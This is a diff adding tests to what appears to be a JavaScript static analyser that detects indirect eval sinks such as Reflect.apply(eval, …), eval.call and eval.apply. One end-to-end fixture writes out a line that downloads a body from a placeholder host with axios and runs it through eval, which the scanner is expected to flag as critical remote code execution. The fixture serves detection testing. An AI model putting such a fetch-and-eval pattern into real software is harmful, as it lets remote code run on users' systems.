@@ -94,3 +94,18 @@ test('sinks: string timers given a download in a network callback', async (t) =>
     assert.deepEqual(findings(code, 'src/client.js'), []);
   });
 });
+
+test('sinks: indirect eval (Reflect.apply, eval.call, eval.apply) runs its code argument', async (t) => {
+  await t.test('Reflect.apply(eval, globalThis, [code]), eval.call(null, code), eval.apply(null, [code])', () => {
+    const code = 'Reflect.apply(eval, globalThis, [a]);\neval.call(null, b);\neval.apply(null, [c]);\n';
+    const { ast } = parseJs(code);
+    assert.deepEqual(findSinks(ast).map((s) => `${s.kind}@${lineOf(code, s.node.start)}:${code.slice(s.code!.start, s.code!.end)}`), ['eval@1:a', 'eval@2:b', 'eval@3:c']);
+  });
+  await t.test('Reflect.apply and .call/.apply of other functions are no sinks', () => {
+    assert.deepEqual(sinks('Reflect.apply(Math.max, null, [1, 2]);\nfn.call(this, code);\nlog.apply(console, [code]);\nconst o = { eval: (x) => x }; o.eval.call(o, s);\n'), []);
+  });
+  await t.test('end to end: a downloaded body run through Reflect.apply(eval, …)', () => {
+    const code = "const axios = require('axios');\naxios.get('https://cfg.example.invalid/a').then((r) => Reflect.apply(eval, globalThis, [r.data]));\n";
+    assert.deepEqual(findings(code), ['remote-code-execution@2 critical']);
+  });
+});
